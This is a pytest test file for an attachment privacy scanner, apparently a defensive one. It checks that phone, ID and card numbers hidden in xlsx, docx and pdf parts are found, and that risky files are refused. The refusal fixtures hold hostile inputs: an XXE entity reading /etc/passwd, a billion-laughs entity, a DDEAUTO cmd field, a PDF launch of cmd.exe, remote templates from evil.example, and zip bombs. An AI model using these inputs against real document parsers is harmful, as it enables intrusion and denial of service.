"""A number is found in every corner of an attachment, and what is more than text and pictures is refused."""

from __future__ import annotations

import random
import zipfile
from io import BytesIO

import pytest
from pypdf import PdfReader, PdfWriter

from plugins.privacy.allowed import Allowed
from plugins.privacy.draft import scan_draft
from plugins.privacy.look import read_attachment
from plugins.problems import Severity
from tests.builders import BODY, a_draft
from tests.privacy.attachments import (
    RELS,
    R,
    S,
    W,
    archive,
    docx,
    exif,
    inline,
    paragraph,
    pdf,
    picture,
    row,
    saved_again,
    xlsx,
)

MOBILE = "13800000000"
IDENTITY = "999999199001010016"
CARD = "6217000000000000004"


def rules(name: str, data: bytes) -> list[str]:
    draft = a_draft(f"{BODY}\n[附件]({name})\n", files={name: data})
    return [problem.rule for problem in scan_draft(draft, Allowed()).problems]


def comments(text: str) -> str:
    return f'<comments xmlns="{S}"><commentList><comment><text><t>{text}</t></text></comment></commentList></comments>'


def relation(kind: str, target: str) -> str:
    inner = f'<Relationship Id="r1" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{RELS}">{inner}</Relationships>'


PROPERTIES = "<properties><creator>{}</creator></properties>"
IN_SHEETS = {
    "a cell": xlsx(row(MOBILE)),
    "a number in the notation of science": xlsx(row("1.3800000000E10")),
    "a text in a cell": xlsx(inline(MOBILE)),
    "a text shared by cells": xlsx('<row><c t="s"><v>0</v></c></row>', shared=(f"<t>电话{MOBILE}</t>",)),
    "a shared text no cell shows": xlsx(row("1"), shared=(f"<t>{MOBILE}</t>",)),
    "a text in two colours": xlsx(row("1"), shared=("<r><t>138</t></r><r><t>00000000</t></r>",)),
    "a hidden sheet": xlsx(row("1"), row(MOBILE), state="veryHidden"),
    "a hidden row": xlsx(row(MOBILE, hidden="1")),
    "a comment": xlsx(row("1"), xl__comments1_xml=comments(MOBILE)),
    "the properties": xlsx(row("1"), docProps__core_xml=PROPERTIES.format(MOBILE)),
    "a formula": xlsx(f'<row><c><f>CONCAT("{MOBILE}")</f></c></row>'),
    "printer settings": xlsx(row("1"), xl__printerSettings__printerSettings1_bin=MOBILE.encode("utf-16-le")),
    "the name of a part": archive({"xl/workbook.xml": "<workbook/>", f"xl/{MOBILE}.xml": "<a/>"}),
    "the comment of the archive": archive({"xl/workbook.xml": "<workbook/>"}, MOBILE.encode()),
    "an address of a link": xlsx(
        row("1"), xl__worksheets___rels__sheet1_xml_rels=relation("hyperlink", f"tel:{MOBILE}")
    ),
}
IN_WORDS = {
    "a paragraph": docx(paragraph(f"联系{MOBILE}")),
    "runs": docx(paragraph("138", "0000", "0000")),
    "boxes of a form": docx(
        "<w:tbl><w:tr>" + "".join(f"<w:tc>{paragraph(digit)}</w:tc>" for digit in MOBILE) + "</w:tr></w:tbl>"
    ),
    "a deleted text": docx(f"<w:p><w:del><w:r><w:delText>{MOBILE}</w:delText></w:r></w:del></w:p>"),
    "a header": docx(paragraph("x"), word__header1_xml=f'<w:hdr xmlns:w="{W}">{paragraph(MOBILE)}</w:hdr>'),
    "a comment": docx(paragraph("x"), word__comments_xml=f'<w:comments xmlns:w="{W}">{paragraph(MOBILE)}</w:comments>'),
    "the title of a picture": docx(f'<w:p><w:docPr descr="{MOBILE}"/></w:p>'),
    "the last author": docx(paragraph("x"), docProps__core_xml=PROPERTIES.format(f"张 {MOBILE}")),
    "UTF-16": docx(
        paragraph("x"), customXml__item1_xml=f'<?xml version="1.0" encoding="UTF-16"?><a>{MOBILE}</a>'.encode("utf-16")
    ),
}
NOTE = f"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents ({MOBILE}) >>"
METADATA = f"<< /Type /Metadata /Length 30 >>\nstream\n<x><y>{MOBILE}</y></x>      \nendstream"
IN_PDF = {
    "the page": pdf(MOBILE),
    "the title": pdf(info=f"/Title ({MOBILE})"),
    "a note": pdf(page="/Annots [7 0 R]", objects=(NOTE,)),
    "a form field": pdf(root="/AcroForm << /Fields [7 0 R] >>", objects=(f"<< /FT /Tx /T (a) /V ({MOBILE}) >>",)),
    "the metadata": pdf(root="/Metadata 7 0 R", objects=(METADATA,)),
    "an object nothing refers to": pdf(objects=(f"<< /Old ({MOBILE}) >>",)),
    "what it said before it was saved again": saved_again(pdf(MOBILE), "Hello"),
}


@pytest.mark.parametrize("place", IN_SHEETS)
def test_a_mobile_number_is_found_in_a_workbook_in(place: str):
    assert rules("list.xlsx", IN_SHEETS[place]) == ["PRI003"]


@pytest.mark.parametrize("place", IN_WORDS)
def test_a_mobile_number_is_found_in_a_document_in(place: str):
    assert rules("form.docx", IN_WORDS[place]) == ["PRI003"]


@pytest.mark.parametrize("place", IN_PDF)
def test_a_mobile_number_is_found_in_a_pdf_in(place: str):
    assert rules("form.pdf", IN_PDF[place]) == ["PRI003"]


def test_the_heading_of_a_column_speaks_for_a_card_number_in_another_part():
    assert rules("a.xlsx", xlsx(f'<row><c t="s"><v>0</v></c></row>{inline(CARD)}', shared=("<t>银行卡号</t>",))) == [
        "PRI002"
    ]
    assert rules("a.xlsx", xlsx(f'<row><c t="s"><v>0</v></c></row>{inline(CARD)}', shared=("<t>编号</t>",))) == []


def test_a_finding_says_which_sheet_and_row():
    draft = a_draft(f"{BODY}\n[附件](a.xlsx)\n", files={"a.xlsx": xlsx(row("1"), row("2") + row(MOBILE))})

    (problem,) = scan_draft(draft, Allowed()).problems

    assert problem.values["sample"] == "13…00, 表2:2"
    assert MOBILE not in problem.message() + problem.fix() + str(problem.values)


PLAIN = {
    "a.xlsx": xlsx(
        inline("补贴名单") + row("1", "2026", "186000.00") + row("2", "46023.5", "1.5E3"), shared=("<t>组</t>",)
    ),
    "a.docx": docx(paragraph("江政发〔2026〕3号") + paragraph("热线 12345，0512-00000000")),
    "a.pdf": pdf("Tender JWZB-2026-0112, 2026-03-05 09:00, 1472540.37"),
}


@pytest.mark.parametrize("name", PLAIN)
def test_an_attachment_without_personal_data_passes(name: str):
    assert rules(name, PLAIN[name]) == []


def test_columns_of_figures_are_no_numbers_of_people():
    dice = random.Random(7)
    rows = "".join(row(*(str(dice.randrange(10 ** dice.randrange(1, 7))) for _ in range(9))) for _ in range(300))
    table = "".join(
        "<w:tr>" + "".join(f"<w:tc>{paragraph(str(dice.randrange(100000)))}</w:tc>" for _ in range(7)) + "</w:tr>"
        for _ in range(300)
    )

    assert rules("a.xlsx", xlsx(inline("账户") + rows)) == []
    assert rules("a.docx", docx(f"{paragraph('银行账号')}<w:tbl>{table}</w:tbl>")) == []


ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<!DOCTYPE a [<!ENTITY x "x"><!ENTITY y "&x;&x;">]><a>&y;</a>'
REFUSED = {
    "macros": ("a.docx", docx(paragraph("x"), word__vbaProject_bin=b"x"), "PRI015"),
    "macro sheet": ("a.xlsx", xlsx(row("1"), xl__macrosheets__sheet1_xml="<a/>"), "PRI015"),
    "control": ("a.docx", docx(paragraph("x"), word__activeX__activeX1_xml="<a/>"), "PRI015"),
    "embedded workbook": ("a.docx", docx(paragraph("x"), word__embeddings__a_xlsx=xlsx(row(MOBILE))), "PRI015"),
    "archive under another name": ("a.docx", docx(paragraph("x"), word__media__a_bin=archive({"a": "b"})), "PRI015"),
    "other workbook": ("a.xlsx", xlsx(row("1"), xl__externalLinks__externalLink1_xml="<a/>"), "PRI015"),
    "template from elsewhere": (
        "a.docx",
        docx(
            paragraph("x"), word___rels__settings_xml_rels=relation("attachedTemplate", "https://evil.example/t.dotm")
        ),
        "PRI015",
    ),
    "picture from elsewhere": (
        "a.docx",
        docx(paragraph("x"), word___rels__document_xml_rels=relation("image", "https://evil.example/pixel.png")),
        "PRI015",
    ),
    "field that runs": ("a.docx", docx("<w:p><w:r><w:instrText> DDEAUTO cmd</w:instrText></w:r></w:p>"), "PRI015"),
    "page of a browser": ("a.docx", docx(paragraph("x"), word__afchunk_mht=b"x"), "PRI015"),
    "photograph with its place": (
        "a.docx",
        docx(paragraph("x"), word__media__image1_jpeg=picture("JPEG", exif=exif())),
        "PRI015",
    ),
    "entity": ("a.docx", docx(paragraph("x"), word__notes_xml=ENTITY), "PRI014"),
    "entities in entities": ("a.docx", docx(paragraph("x"), word__notes_xml=LAUGHS), "PRI014"),
    "broken XML": ("a.docx", docx("<w:p>"), "PRI014"),
    "no document": ("a.docx", archive({"a.xml": "<a/>"}), "PRI014"),
    "cut archive": ("a.docx", docx(paragraph("x"))[:-30], "PRI014"),
    "name that climbs": ("a.docx", archive({"word/document.xml": "<a/>", "../a.xml": "<a/>"}), "PRI014"),
    "bomb": ("a.docx", docx(paragraph("x"), word__a_xml=b"<a>" + b" " * (17 << 20) + b"</a>"), "PRI016"),
    "many parts": ("a.docx", archive({f"word/{n}.xml": "" for n in range(1001)}), "PRI016"),
    "script": ("a.pdf", pdf(root="/OpenAction << /S /JavaScript /JS (app.alert) >>"), "PRI015"),
    "launch": ("a.pdf", pdf(root="/OpenAction << /S /Launch /F (cmd.exe) >>"), "PRI015"),
    "embedded file": ("a.pdf", pdf(root="/Names << /EmbeddedFiles << /Names [] >> >>"), "PRI015"),
    "no pdf": ("a.pdf", b"%PDF-1.4\nnothing", "PRI014"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_an_attachment_is_refused_for(what: str):
    name, data, rule = REFUSED[what]

    assert rule in rules(name, data)


def test_two_parts_of_one_name_are_refused():
    held = BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("word/document.xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate"):
            file.writestr("word/document.xml", f"<a>{MOBILE}</a>")

    assert rules("a.docx", held.getvalue()) == ["PRI014"]


def test_encrypted_attachments_are_refused():
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf(MOBILE))))
    writer.encrypt("secret", algorithm="RC4-128")
    locked = BytesIO()
    writer.write(locked)
    archived = bytearray(docx(paragraph("x")))
    for place in (archived.index(b"PK\x03\x04") + 6, archived.index(b"PK\x01\x02") + 8):
        archived[place] |= 1

    assert rules("a.pdf", locked.getvalue()) == ["PRI017"]
    assert rules("a.docx", bytes(archived)) == ["PRI017"]


def test_a_scanned_page_is_named_to_those_who_sign():
    image = (
        "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>"
    )
    data = pdf("", objects=(f"{image}\nstream\nx\nendstream",)).replace(
        b"/Font << /F1 5 0 R >>", b"/XObject << /I 7 0 R >>"
    )

    (objection,) = read_attachment("pdf", data).objections

    assert objection.rule.id == "PRI019"
    assert objection.rule.severity is Severity.WARNING


def test_the_author_a_program_wrote_into_a_pdf_is_pointed_out():
    writer, out = PdfWriter(BytesIO(pdf("a form"))), BytesIO()
    writer.add_metadata({"/Author": "某人"})
    writer.write(out)

    (objection,) = read_attachment("pdf", out.getvalue()).objections

    assert objection.rule.id == "PRI023"
    assert objection.rule.severity is Severity.WARNING
    assert objection.at("content/pages/form.pdf").message().startswith("form.pdf 的")


def test_a_document_type_is_refused_in_any_encoding():
    data = docx(paragraph("x"), word__notes_xml=ENTITY.encode("utf-16"))

    assert rules("a.docx", data) == ["PRI014"]
